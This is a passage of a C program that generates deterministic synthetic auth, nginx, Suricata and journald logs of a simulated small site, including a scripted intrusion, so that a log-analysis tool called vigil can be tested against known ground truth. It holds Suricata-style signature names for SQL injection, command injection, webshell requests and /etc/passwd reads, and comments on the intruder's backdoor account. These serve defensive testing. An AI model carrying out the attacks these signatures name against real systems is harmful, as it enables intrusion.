/*
 * gen.c: vigil-demo-gen, the synthetic logs behind `make demo` and the
 * benchmarks.
 *
 *   vigil-demo-gen DIR [--seed N] [--scale N | --bytes N]
 *
 * Default mode writes one day (2026-03-10, UTC) of a small site: three
 * Debian hosts (web01, db01, bastion), their auth log, the nginx access log
 * of web01, the Suricata EVE log of a sensor watching the DMZ and the
 * journal of bastion.  Benign work fills the day; an intrusion runs through
 * the afternoon; two small unrelated events sit in the morning.  DIR/README
 * states the ground truth so that tests can check vigil's report against it.
 * --scale N multiplies the web visits and crawls by N.
 *
 * --bytes N writes only DIR/auth.log and DIR/access.log, about N bytes in
 * all, spread over 27 days of February 2026, with the same episode
 * generators picked at random in a loop, for throughput benchmarks.
 * DIR/truth.txt holds exact counts (failed passwords per source address).
 *
 * The model is a list of episodes: a cron run, an SSH session, a sudo
 * command, a visit to the web site, one brute-force connection, a scan.
 * Each episode gets its process ids when it starts and writes its lines,
 * some of them later than its start (a session closes hours later).  Lines
 * go to a per-file heap ordered by time and leave it once no later episode
 * can write before them, so every file is in time order.  In default mode
 * the episodes are scheduled first, sorted, then run; in --bytes mode the
 * clock is tied to the bytes written so far, so N bytes always span the
 * same period and the heaps stay small.
 *
 * Output is deterministic for a seed: the PRNG is splitmix64 and nothing
 * reads the clock, the environment or the locale.  Lines are built with
 * hand-written formatters, not stdio, to stay well above 100 MB/s.  Only
 * documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
 * 2001:db8::/32) and private ones appear.  Each file's mtime is set just
 * after its last record so that year inference for RFC 3164 timestamps
 * lands on 2026.
 */
#include "core/core.h"

#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define USEC 1000000LL
#define MINUTE (60 * USEC)
#define HOUR (60 * MINUTE)
#define DAY (24 * HOUR)

#define LINE_CAP 4096
#define OUT_CAP (1 << 20)

/* ------------------------------------------------------------------ prng */

struct rng {
	uint64_t s;
};

/* splitmix64: tiny, fast, and every seed (0 included) gives a full cycle. */
static uint64_t rng_next(struct rng *r)
{
	uint64_t z = (r->s += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* Uniform in [0, n); n == 0 gives 0. */
static uint32_t rng_below(struct rng *r, uint32_t n)
{
	return (uint32_t)(((rng_next(r) >> 32) * n) >> 32);
}

/* Uniform in [lo, hi]. */
static int64_t rng_range(struct rng *r, int64_t lo, int64_t hi)
{
	uint64_t span = (uint64_t)(hi - lo) + 1;

	if (hi <= lo)
		return lo;
	return lo + (int64_t)(rng_next(r) % span);
}

/* True with probability pct/100. */
static bool rng_pct(struct rng *r, unsigned pct)
{
	return rng_below(r, 100) < pct;
}

/* ------------------------------------------------------------------ lines */

/*
 * One output record being built; always leaves room for the newline.
 * patch, when not 0, is the offset of six hex digits the sink fills with
 * its running counter as the line is written (journal sequence numbers
 * must follow file order, not generation order).
 */
struct line {
	size_t n;
	size_t patch;
	char b[LINE_CAP];
};

static void ln_reset(struct line *l)
{
	l->n = 0;
	l->patch = 0;
}

/* Appends n bytes; past LINE_CAP the line is cut, never overrun. */
static void ln_add(struct line *l, const char *p, size_t n)
{
	if (n > LINE_CAP - 1 - l->n)
		n = LINE_CAP - 1 - l->n;
	memcpy(l->b + l->n, p, n);
	l->n += n;
}

static void ln_str(struct line *l, const char *s)
{
	ln_add(l, s, strlen(s));
}

static void ln_chr(struct line *l, char c)
{
	if (l->n < LINE_CAP - 1)
		l->b[l->n++] = c;
}

static void ln_u64(struct line *l, uint64_t v)
{
	char tmp[24];
	size_t i = sizeof(tmp);

	do {
		tmp[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v);
	ln_add(l, tmp + i, sizeof(tmp) - i);
}

/* Zero-padded decimal of at least width digits. */
static void ln_u0(struct line *l, uint64_t v, unsigned width)
{
	char tmp[24];
	size_t i = sizeof(tmp);

	do {
		tmp[--i] = (char)('0' + v % 10);
		v /= 10;
	} while (v || sizeof(tmp) - i < width);
	ln_add(l, tmp + i, sizeof(tmp) - i);
}

/* Lowercase hex, zero-padded to width digits (at most 16). */
static void ln_hex(struct line *l, uint64_t v, unsigned width)
{
	static const char digits[] = "0123456789abcdef";
	char tmp[16];

	for (unsigned i = 0; i < width; i++)
		tmp[width - 1 - i] = digits[(v >> (4 * i)) & 15];
	ln_add(l, tmp, width);
}

/* Appends s with JSON string escaping. */
static void ln_json(struct line *l, const char *s)
{
	for (; *s; s++) {
		unsigned char c = (unsigned char)*s;

		if (c == '"' || c == '\\') {
			ln_chr(l, '\\');
			ln_chr(l, (char)c);
		} else if (c < 0x20) {
			ln_str(l, "\\u00");
			ln_hex(l, c, 2);
		} else {
			ln_chr(l, (char)c);
		}
	}
}

/*
 * A small printf: %s string, %j JSON-escaped string, %u unsigned int,
 * %U uint64_t, %%.  Kept apart from stdio for speed and locale
 * independence.
 */
static void ln_vf(struct line *l, const char *fmt, va_list ap)
{
	const char *p = fmt;

	while (*p) {
		const char *pct = strchrnul(p, '%');

		ln_add(l, p, (size_t)(pct - p));
		if (!*pct)
			break;
		switch (pct[1]) {
		case 's':
			ln_str(l, va_arg(ap, const char *));
			break;
		case 'j':
			ln_json(l, va_arg(ap, const char *));
			break;
		case 'u':
			ln_u64(l, va_arg(ap, unsigned));
			break;
		case 'U':
			ln_u64(l, va_arg(ap, uint64_t));
			break;
		default:
			ln_chr(l, '%');
			break;
		}
		p = pct[1] ? pct + 2 : pct + 1;
	}
}

static void ln_f(struct line *l, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	ln_vf(l, fmt, ap);
	va_end(ap);
}

/* ------------------------------------------------------------------- time */

struct civil {
	int64_t year;
	unsigned mon, day, hour, min, sec, usec;
};

static const char months[12][4] = {
	"Jan", "Feb", "Mar", "Apr", "May", "Jun",
	"Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
};

/* Splits microseconds since the epoch (UTC) into a Gregorian date. */
static void civil_from_ts(int64_t ts, struct civil *c)
{
	int64_t secs = ts / USEC - (ts % USEC < 0);
	int64_t days = secs / 86400 - (secs % 86400 < 0);
	int64_t rem = secs - days * 86400;
	int64_t z = days + 719468;
	int64_t era = (z >= 0 ? z : z - 146096) / 146097;
	int64_t doe = z - era * 146097;
	int64_t yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	int64_t doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	int64_t mp = (5 * doy + 2) / 153;

	c->day = (unsigned)(doy - (153 * mp + 2) / 5 + 1);
	c->mon = (unsigned)(mp < 10 ? mp + 3 : mp - 9);
	c->year = yoe + era * 400 + (c->mon <= 2);
	c->hour = (unsigned)(rem / 3600);
	c->min = (unsigned)(rem / 60 % 60);
	c->sec = (unsigned)(rem % 60);
	c->usec = (unsigned)(ts - secs * USEC);
}

static void ln_hms(struct line *l, const struct civil *c)
{
	ln_u0(l, c->hour, 2);
	ln_chr(l, ':');
	ln_u0(l, c->min, 2);
	ln_chr(l, ':');
	ln_u0(l, c->sec, 2);
}

/* RFC 3164: "Mar 10 08:00:01", the day space-padded. */
static void ln_ts_syslog(struct line *l, int64_t ts)
{
	struct civil c;

	civil_from_ts(ts, &c);
	ln_add(l, months[c.mon - 1], 3);
	ln_chr(l, ' ');
	if (c.day < 10)
		ln_chr(l, ' ');
	ln_u64(l, c.day);
	ln_chr(l, ' ');
	ln_hms(l, &c);
}

/* Common log format: "10/Mar/2026:08:00:01 +0000". */
static void ln_ts_clf(struct line *l, int64_t ts)
{
	struct civil c;

	civil_from_ts(ts, &c);
	ln_u0(l, c.day, 2);
	ln_chr(l, '/');
	ln_add(l, months[c.mon - 1], 3);
	ln_chr(l, '/');
	ln_u64(l, (uint64_t)c.year);
	ln_chr(l, ':');
	ln_hms(l, &c);
	ln_str(l, " +0000");
}

/* Suricata: "2026-03-10T08:00:01.123456+0000". */
static void ln_ts_iso(struct line *l, int64_t ts)
{
	struct civil c;

	civil_from_ts(ts, &c);
	ln_u64(l, (uint64_t)c.year);
	ln_chr(l, '-');
	ln_u0(l, c.mon, 2);
	ln_chr(l, '-');
	ln_u0(l, c.day, 2);
	ln_chr(l, 'T');
	ln_hms(l, &c);
	ln_chr(l, '.');
	ln_u0(l, c.usec, 6);
	ln_str(l, "+0000");
}

/* ------------------------------------------------------------------ sinks */

/* A line waiting in a sink's heap until its time comes. */
struct rec {
	int64_t ts;
	uint64_t seq;		/* push order: ties keep it */
	uint32_t len;
	uint32_t patch;		/* see struct line */
	char text[];
};

/*
 * One output file.  Lines are pushed in any order and written in
 * (ts, seq) order by sink_flush().  fd < 0 means the file is not wanted
 * in this mode and pushes are dropped.  The first error sticks in err.
 */
struct sink {
	char path[PATH_MAX];
	int fd;
	int err;
	char *out;
	size_t outlen;
	struct rec **heap;
	size_t nheap, capheap;
	uint64_t lines;
	uint64_t bytes;		/* pushed so far, pending included */
	uint64_t counter;	/* for patched lines */
	int64_t last_ts;
};

/* The heap order: time, then push order, so same-stamp lines keep theirs. */
static bool rec_before(const struct rec *a, const struct rec *b)
{
	return a->ts < b->ts || (a->ts == b->ts && a->seq < b->seq);
}

static void heap_up(struct rec **h, size_t i)
{
	while (i > 0) {
		size_t parent = (i - 1) / 2;
		struct rec *tmp;

		if (!rec_before(h[i], h[parent]))
			break;
		tmp = h[i];
		h[i] = h[parent];
		h[parent] = tmp;
		i = parent;
	}
}

static void heap_down(struct rec **h, size_t n, size_t i)
{
	for (;;) {
		size_t best = i, kid = 2 * i + 1;
		struct rec *tmp;

		if (kid < n && rec_before(h[kid], h[best]))
			best = kid;
		if (kid + 1 < n && rec_before(h[kid + 1], h[best]))
			best = kid + 1;
		if (best == i)
			return;
		tmp = h[i];
		h[i] = h[best];
		h[best] = tmp;
		i = best;
	}
}

/*
 * Opens DIR/name for writing, truncating it; name NULL leaves the sink
 * disabled.  Returns 0 or a negative errno value.
 */
static int sink_open(struct sink *s, const char *dir, const char *name)
{
	memset(s, 0, sizeof(*s));
	s->fd = -1;
	s->last_ts = INT64_MIN;
	if (!name)
		return 0;
	if ((size_t)snprintf(s->path, sizeof(s->path), "%s/%s", dir, name) >=
	    sizeof(s->path))
		return -ENAMETOOLONG;

	s->out = malloc(OUT_CAP);
	if (!s->out)
		return -ENOMEM;
	s->fd = open(s->path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (s->fd < 0)
		return -errno;
	return 0;
}

/* Drains the output buffer; a failed write sticks in s->err. */
static void sink_write_out(struct sink *s)
{
	size_t off = 0;

	while (off < s->outlen && !s->err) {
		ssize_t w = write(s->fd, s->out + off, s->outlen - off);

		if (w < 0 && errno == EINTR)
			continue;
		if (w < 0)
			s->err = errno;
		else
			off += (size_t)w;
	}
	s->outlen = 0;
}

/* Queues a copy of l (a newline is added) to be written at ts. */
static void sink_push(struct sink *s, int64_t ts, uint64_t seq,
		      const struct line *l)
{
	struct rec *r;

	if (s->fd < 0 || s->err)
		return;
	if (s->nheap == s->capheap) {
		size_t cap = s->capheap ? 2 * s->capheap : 1024;
		struct rec **h = realloc(s->heap, cap * sizeof(*h));

		if (!h) {
			s->err = ENOMEM;
			return;
		}
		s->heap = h;
		s->capheap = cap;
	}

	r = malloc(sizeof(*r) + l->n + 1);
	if (!r) {
		s->err = ENOMEM;
		return;
	}
	r->ts = ts;
	r->seq = seq;
	r->len = (uint32_t)l->n + 1;
	r->patch = (uint32_t)l->patch;
	memcpy(r->text, l->b, l->n);
	r->text[l->n] = '\n';
	s->heap[s->nheap++] = r;
	heap_up(s->heap, s->nheap - 1);
	s->bytes += r->len;
}

/* Writes, in order, every queued line stamped before until. */
static void sink_flush(struct sink *s, int64_t until)
{
	while (s->nheap && s->heap[0]->ts < until) {
		struct rec *r = s->heap[0];

		s->heap[0] = s->heap[--s->nheap];
		heap_down(s->heap, s->nheap, 0);
		if (r->patch) {
			struct line hex = { 0 };

			ln_hex(&hex, s->counter++, 6);
			memcpy(r->text + r->patch, hex.b, 6);
		}
		if (s->outlen + r->len > OUT_CAP)
			sink_write_out(s);
		memcpy(s->out + s->outlen, r->text, r->len);
		s->outlen += r->len;
		s->lines++;
		s->last_ts = r->ts;
		free(r);
	}
}

/*
 * Flushes everything, sets the mtime just after the last line (so a
 * reader inferring the year of RFC 3164 stamps from it gets it right),
 * closes.  The line and byte counts stay readable.  Returns 0 or an
 * errno value.
 */
static int sink_close(struct sink *s)
{
	int err;

	if (s->fd >= 0) {
		sink_flush(s, INT64_MAX);
		sink_write_out(s);
		if (!s->err && s->last_ts != INT64_MIN) {
			int64_t t = s->last_ts / USEC + 1;
			struct timespec tv[2] = { { t, 0 }, { t, 0 } };

			if (futimens(s->fd, tv) != 0)
				s->err = errno;
		}
		if (close(s->fd) != 0 && !s->err)
			s->err = errno;
	}
	while (s->nheap)
		free(s->heap[--s->nheap]);
	free(s->heap);
	free(s->out);
	err = s->err;
	s->heap = NULL;
	s->out = NULL;
	s->capheap = 0;
	s->fd = -1;
	return err;
}

/* ------------------------------------------------------------------ world */

enum { HOST_WEB01, HOST_DB01, HOST_BASTION, HOST__COUNT };

/* The three hosts; logind_pid is systemd-logind, alive all day. */
static const struct host_def {
	const char *name;
	const char *ip;
	unsigned logind_pid;
} hosts[HOST__COUNT] = {
	{ "web01", "10.0.1.10", 611 },
	{ "db01", "10.0.1.20", 598 },
	{ "bastion", "10.0.1.5", 577 },
};

enum { USER_ALICE, USER_BOB, USER_CAROL, USER_DAVE, USER_DEPLOY,
       USER_SYSUPD, USER__COUNT };

/*
 * Accounts on every host.  deploy normally logs in with its key from the
 * CI runner only, which is what makes the intruder's password login stand
 * out; sysupd appears only after the intrusion.
 */
static const struct user_def {
	const char *name;
	unsigned uid;
	bool admin;
} users[USER__COUNT] = {
	{ "alice", 1001, true },
	{ "bob", 1002, true },
	{ "carol", 1003, false },
	{ "dave", 1005, false },
	{ "deploy", 1004, false },
	{ "sysupd", 1006, false },	/* created by the intruder */
};

#define CI_RUNNER "10.0.2.15"
#define RESOLVER "10.0.0.2"
#define SITE "www.example.com"
#define SSH_SERVER_VERSION "OpenSSH_9.2p1"

/*
 * A remote party.  Failed-password lines are counted per peer so the
 * ground truth can say exactly how many each address produced.
 */
struct peer {
	char ip[48];
	uint64_t failed;
	bool hostile;
	uint16_t ua;		/* web visitors: index into browser_uas */
};

/* Current desktop and mobile browsers, as visitors send them. */
static const char *const browser_uas[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
	"(KHTML, like Gecko) Version/17.3.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 "
	"Firefox/123.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) "
	"AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3.1 "
	"Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/122.0.6261.105 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
	"(KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:123.0) Gecko/20100101 "
	"Firefox/123.0",
};

#define UA_CRAWLER \
	"Mozilla/5.0 (compatible; Googlebot/2.1; " \
	"+http://www.google.com/bot.html)"
#define UA_MONITOR "Blackbox-Exporter/0.24.0"

/* The site's pages and the size range of their HTML. */
static const struct page_def {
	const char *path;
	const char *referer_path;	/* where visitors come from, or NULL */
	unsigned min_bytes, max_bytes;
} pages[] = {
	{ "/", NULL, 18000, 19500 },
	{ "/about", "/", 9000, 9800 },
	{ "/products", "/", 14000, 15200 },
	{ "/products/sensor-kit", "/products", 11000, 12500 },
	{ "/products/appliance", "/products", 12000, 13900 },
	{ "/pricing", "/products", 8000, 8900 },
	{ "/blog", "/", 21000, 23000 },
	{ "/blog/2026/02/patch-notes", "/blog", 16000, 17500 },
	{ "/blog/2026/03/hardening-ssh", "/blog", 19000, 20800 },
	{ "/docs/getting-started", "/", 25000, 26400 },
	{ "/docs/api", "/docs/getting-started", 31000, 33100 },
	{ "/contact", "/about", 7000, 7400 },
	{ "/careers", "/about", 6000, 6600 },
	{ "/search?q=firewall+rules", "/docs/api", 5000, 9000 },
	{ "/products?id=2", "/products", 10000, 10400 },
};

/* What every first page view pulls in; cached visitors get 304s. */
static const struct asset_def {
	const char *path;
	unsigned bytes;
} assets[] = {
	{ "/static/css/site.3f9a1c.css", 48211 },
	{ "/static/js/app.77e0b2.js", 131877 },
	{ "/static/img/logo.svg", 4410 },
	{ "/static/img/hero.webp", 88130 },
	{ "/static/fonts/inter-var.woff2", 72504 },
	{ "/favicon.ico", 15086 },
};

/* Paths real visitors and crawlers miss now and then. */
static const char *const stale_paths[] = {
	"/apple-touch-icon.png", "/apple-touch-icon-precomposed.png",
	"/blog/2025/11/old-release", "/products/legacy-box",
	"/static/img/team.jpg", "/docs/v1/api",
};

/* ---------------------------------------------------------------- the gen */

struct gen {
	struct rng rng;
	struct sink auth, web, eve, journal;
	uint64_t seq;
	unsigned pid[HOST__COUNT];
	unsigned session[HOST__COUNT];
	unsigned pts[HOST__COUNT];
	uint64_t journal_seq;
	int64_t boot_ts;	/* when bastion booted */
	char fp[USER__COUNT][44];	/* ED25519 key fingerprints */
	char boot_id[33], machine_id[33], seqnum_id[33];
	struct peer *peers;
	size_t npeers, cappeers;
	struct peer *office[USER__COUNT];
	struct peer *ci, *bastion, *db01;
};

/* Adds a peer to the fixed table; NULL when it is full (a bug). */
static struct peer *peer_add(struct gen *g, const char *ip, bool hostile)
{
	struct peer *p;

	if (g->npeers == g->cappeers)
		return NULL;	/* capacity is set from the mode, see main */
	p = &g->peers[g->npeers++];
	memset(p, 0, sizeof(*p));
	snprintf(p->ip, sizeof(p->ip), "%s", ip);
	p->hostile = hostile;
	return p;
}

static struct peer *peer_v4(struct gen *g, unsigned a, unsigned b,
			    unsigned c, unsigned d, bool hostile)
{
	char ip[16];

	snprintf(ip, sizeof(ip), "%u.%u.%u.%u", a, b, c, d);
	return peer_add(g, ip, hostile);
}

/* Process ids grow with each new process and wrap like pid_max 2^22. */
static unsigned next_pid(struct gen *g, unsigned host)
{
	g->pid[host] += 1 + rng_below(&g->rng, 37);
	if (g->pid[host] >= 4194304)
		g->pid[host] -= 4194304 - 1000;
	return g->pid[host];
}

/* Linux's default ephemeral range, 32768-60999. */
static unsigned ephemeral_port(struct gen *g)
{
	return 32768 + rng_below(&g->rng, 28000);
}

/* Queues a finished line; the global sequence keeps ties stable. */
static void emit(struct gen *g, struct sink *s, int64_t ts,
		 const struct line *l)
{
	sink_push(s, ts, g->seq++, l);
}

/* 43 base64 characters, stable per name: an SSH key fingerprint. */
static void make_fingerprint(const char *name, char *out)
{
	static const char b64[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
		"0123456789+/";
	struct rng r = { core_hash(name, strlen(name), 0x5eed) };

	for (int i = 0; i < 43; i++)
		out[i] = b64[rng_below(&r, 64)];
	out[43] = '\0';
}

static void make_hex_id(struct rng *r, char *out)
{
	struct line l = { 0 };

	ln_hex(&l, rng_next(r), 16);
	ln_hex(&l, rng_next(r), 16);
	memcpy(out, l.b, 32);
	out[32] = '\0';
}

/* ----------------------------------------------------------- auth.log */

/* One RFC 3164 line in auth.log: "Mar 10 08:00:01 web01 sshd[812]: ...". */
static void auth_line(struct gen *g, int64_t ts, unsigned host,
		      const char *prog, unsigned pid, const char *fmt, ...)
{
	struct line l;
	va_list ap;

	ln_reset(&l);
	ln_ts_syslog(&l, ts);
	ln_chr(&l, ' ');
	ln_str(&l, hosts[host].name);
	ln_chr(&l, ' ');
	ln_str(&l, prog);
	if (pid) {
		ln_chr(&l, '[');
		ln_u64(&l, pid);
		ln_chr(&l, ']');
	}
	ln_str(&l, ": ");
	va_start(ap, fmt);
	ln_vf(&l, fmt, ap);
	va_end(ap);
	emit(g, &g->auth, ts, &l);
}

/* ------------------------------------------------------------ journal */

/* Where a journal record came from: the trusted fields journald adds. */
struct jsrc {
	const char *ident;
	const char *comm;
	const char *exe;
	const char *cmdline;
	const char *unit;
	unsigned facility, priority;
	bool kernel;
};

static const struct jsrc js_kernel = {
	"kernel", NULL, NULL, NULL, NULL, 0, 4, true,
};
static const struct jsrc js_cron = {
	"CRON", "cron", "/usr/sbin/cron", "/usr/sbin/CRON -f",
	"cron.service", 9, 6, false,
};
static const struct jsrc js_systemd = {
	"systemd", "systemd", "/usr/lib/systemd/systemd",
	"/sbin/init", "init.scope", 3, 6, false,
};

/*
 * journald's cursor: seqnum id, sequence number (patched in file order),
 * boot id, monotonic and realtime clocks in hex, and a hash.
 */
static void journal_cursor(struct gen *g, struct line *l, int64_t ts)
{
	ln_str(l, "{\"__CURSOR\":\"s=");
	ln_str(l, g->seqnum_id);
	ln_str(l, ";i=");
	l->patch = l->n;
	ln_str(l, "000000");
	ln_str(l, ";b=");
	ln_str(l, g->boot_id);
	ln_str(l, ";m=");
	ln_hex(l, (uint64_t)(ts - g->boot_ts), 12);
	ln_str(l, ";t=");
	ln_hex(l, (uint64_t)ts, 13);
	ln_str(l, ";x=");
	ln_hex(l, core_hash(&ts, sizeof(ts), g->journal_seq), 16);
	ln_chr(l, '"');
}

/* One `journalctl -o json` record from bastion. */
static void journal_line(struct gen *g, int64_t ts, const struct jsrc *js,
			 unsigned pid, const char *msg)
{
	struct line l = { 0 };

	g->journal_seq++;
	journal_cursor(g, &l, ts);
	ln_f(&l, ",\"__REALTIME_TIMESTAMP\":\"%U\",\"__MONOTONIC_TIMESTAMP\""
	     ":\"%U\",\"_BOOT_ID\":\"%s\",\"_MACHINE_ID\":\"%s\",\"_HOSTNAME\""
	     ":\"bastion\",\"PRIORITY\":\"%u\",\"SYSLOG_FACILITY\":\"%u\","
	     "\"SYSLOG_IDENTIFIER\":\"%s\"", (uint64_t)ts,
	     (uint64_t)(ts - g->boot_ts), g->boot_id, g->machine_id,
	     js->priority, js->facility, js->ident);
	if (js->kernel) {
		ln_f(&l, ",\"_TRANSPORT\":\"kernel\",\"_SOURCE_MONOTONIC_"
		     "TIMESTAMP\":\"%U\"", (uint64_t)(ts - g->boot_ts) - 113);
	} else {
		ln_f(&l, ",\"_TRANSPORT\":\"%s\",\"_PID\":\"%u\","
		     "\"_UID\":\"0\",\"_GID\":\"0\",\"_COMM\":\"%s\","
		     "\"_EXE\":\"%s\",\"_CMDLINE\":\"%s\","
		     "\"_SYSTEMD_UNIT\":\"%s\","
		     "\"_SYSTEMD_SLICE\":\"%s\"",
		     pid == 1 ? "journal" : "syslog", pid, js->comm, js->exe,
		     js->cmdline, js->unit, pid == 1 ? "-.slice" :
		     "system.slice");
	}
	ln_f(&l, ",\"MESSAGE\":\"%j\"}", msg);
	emit(g, &g->journal, ts, &l);
}

/* -------------------------------------------------------------- EVE */

/* Flow ids as Suricata prints them: large positive integers. */
static uint64_t new_flow_id(struct gen *g)
{
	return (rng_next(&g->rng) & ((1ULL << 51) - 1)) | (1ULL << 50);
}

/* Opens an EVE record up to and including "proto"; caller closes it. */
static void eve_head(struct line *l, int64_t ts, uint64_t flow_id,
		     const char *type, const char *src, unsigned sport,
		     const char *dst, unsigned dport, const char *proto)
{
	ln_reset(l);
	ln_str(l, "{\"timestamp\":\"");
	ln_ts_iso(l, ts);
	ln_f(l, "\",\"flow_id\":%U,\"in_iface\":\"eth1\",\"event_type\":\"%s\","
	     "\"src_ip\":\"%s\",\"src_port\":%u,\"dest_ip\":\"%s\","
	     "\"dest_port\":%u,\"proto\":\"%s\"", flow_id, type, src, sport,
	     dst, dport, proto);
}

/* Fields of the HTTP transaction an EVE http or alert record carries. */
struct eve_http {
	const char *host;	/* Host header; NULL for the site's */
	const char *url;
	const char *ua;
	const char *method;
	const char *ctype;
	unsigned status;
	unsigned length;
};

static void ln_eve_http(struct line *l, const struct eve_http *h)
{
	ln_f(l, ",\"http\":{\"hostname\":\"%s\",\"url\":\"%j\","
	     "\"http_user_agent\":\"%j\",\"http_content_type\":\"%s\","
	     "\"http_method\":\"%s\",\"protocol\":\"HTTP/1.1\","
	     "\"status\":%u,\"length\":%u}", h->host ? h->host : SITE,
	     h->url, h->ua, h->ctype, h->method, h->status, h->length);
}

/* Signatures used in the scenario: Emerging Threats style names. */
struct sig {
	unsigned sid, rev, severity;
	const char *msg;
	const char *category;
};

static const struct sig sig_ssh_scan = {
	2001219, 20, 2, "ET SCAN Potential SSH Scan",
	"Attempted Information Leak",
};
static const struct sig sig_nmap_ss = {
	2009582, 3, 2, "ET SCAN NMAP -sS window 1024",
	"Attempted Information Leak",
};
static const struct sig sig_mysql = {
	2010937, 3, 2, "ET SCAN Suspicious inbound to mySQL port 3306",
	"Potentially Bad Traffic",
};
static const struct sig sig_pgsql = {
	2010939, 3, 2, "ET SCAN Suspicious inbound to PostgreSQL port 5432",
	"Potentially Bad Traffic",
};
static const struct sig sig_nikto = {
	2002677, 14, 1, "ET SCAN Nikto Web App Scan in Progress",
	"Web Application Attack",
};
static const struct sig sig_sqlmap = {
	2008538, 8, 2, "ET SCAN Sqlmap SQL Injection Scan",
	"Attempted Information Leak",
};
static const struct sig sig_union = {
	2006446, 14, 1,
	"ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT",
	"Web Application Attack",
};
static const struct sig sig_passwd = {
	2101122, 8, 1, "GPL WEB_SERVER /etc/passwd",
	"Attempted Information Leak",
};
static const struct sig sig_cmdinj = {
	2029250, 2, 1,
	"ET WEB_SERVER Possible Command Injection Attempt in URI (;id)",
	"Web Application Attack",
};
static const struct sig sig_webshell = {
	2016676, 4, 1,
	"ET WEB_SERVER Generic PHP Webshell Request - cmd= in URI",
	"Web Application Attack",
};
static const struct sig sig_curl = {
	2013028, 7, 3, "ET POLICY curl User-Agent Outbound",
	"Attempted Information Leak",
};

/* An alert record; h adds the HTTP transaction that triggered it. */
static void eve_alert(struct gen *g, int64_t ts, uint64_t flow_id,
		      const char *src, unsigned sport, const char *dst,
		      unsigned dport, const struct sig *s,
		      const struct eve_http *h)
{
	struct line l;

	eve_head(&l, ts, flow_id, "alert", src, sport, dst, dport, "TCP");
	ln_f(&l, ",\"alert\":{\"action\":\"allowed\",\"gid\":1,"
	     "\"signature_id\":%u,\"rev\":%u,\"signature\":\"%j\","
	     "\"category\":\"%j\",\"severity\":%u}", s->sid, s->rev, s->msg,
	     s->category, s->severity);
	if (h) {
		ln_str(&l, ",\"app_proto\":\"http\"");
		ln_eve_http(&l, h);
	}
	ln_chr(&l, '}');
	emit(g, &g->eve, ts, &l);
}

static void eve_http(struct gen *g, int64_t ts, uint64_t flow_id,
		     const char *src, unsigned sport, const char *dst,
		     const struct eve_http *h)
{
	struct line l;

	eve_head(&l, ts, flow_id, "http", src, sport, dst, 80, "TCP");
	ln_str(&l, ",\"tx_id\":0");
	ln_eve_http(&l, h);
	ln_chr(&l, '}');
	emit(g, &g->eve, ts, &l);
}

/* Byte and packet counts of a finished flow. */
struct flow_stats {
	unsigned pkts_ts, pkts_tc;
	uint64_t bytes_ts, bytes_tc;
	const char *app;	/* app_proto, NULL for none */
	const char *state;	/* "closed", "new", "established" */
};

/* A flow record, logged when the flow times out after end. */
static void eve_flow(struct gen *g, int64_t start, int64_t end,
		     uint64_t flow_id, const char *src, unsigned sport,
		     const char *dst, unsigned dport, const char *proto,
		     const struct flow_stats *f)
{
	struct line l;
	int64_t logged = end + (f->pkts_tc ? 60 : 30) * USEC;

	eve_head(&l, logged, flow_id, "flow", src, sport, dst, dport, proto);
	if (f->app)
		ln_f(&l, ",\"app_proto\":\"%s\"", f->app);
	ln_f(&l, ",\"flow\":{\"pkts_toserver\":%u,\"pkts_toclient\":%u,"
	     "\"bytes_toserver\":%U,\"bytes_toclient\":%U,\"start\":\"",
	     f->pkts_ts, f->pkts_tc, f->bytes_ts, f->bytes_tc);
	ln_ts_iso(&l, start);
	ln_str(&l, "\",\"end\":\"");
	ln_ts_iso(&l, end);
	ln_f(&l, "\",\"age\":%U,\"state\":\"%s\",\"reason\":\"timeout\","
	     "\"alerted\":false}", (uint64_t)((end - start) / USEC),
	     f->state);
	if (proto[0] == 'T' && strcmp(f->state, "new") != 0) {
		ln_str(&l, ",\"tcp\":{\"tcp_flags\":\"1b\",\"syn\":true,"
		       "\"fin\":true,\"psh\":true,\"ack\":true,"
		       "\"state\":\"closed\"}");
	} else if (proto[0] == 'T') {
		/* A probe: SYN alone, or SYN, SYN-ACK and the prober's RST. */
		ln_str(&l, f->pkts_tc ? ",\"tcp\":{\"tcp_flags\":\"16\","
		       "\"syn\":true,\"rst\":true,\"ack\":true,\"state\":"
		       "\"closed\"}" : ",\"tcp\":{\"tcp_flags\":\"02\","
		       "\"syn\":true,\"state\":\"syn_sent\"}");
	}
	ln_chr(&l, '}');
	emit(g, &g->eve, logged, &l);
}

/* ------------------------------------------------------------ access.log */

/* One nginx "combined" line; requests on port 80 also reach EVE. */
struct request {
	const struct peer *from;
	const char *method;
	const char *target;
	unsigned status;
	unsigned bytes;
	const char *referer;	/* full URL or NULL */
	const char *ua;
	const char *ctype;
	bool plain;		/* port 80, visible to the sensor */
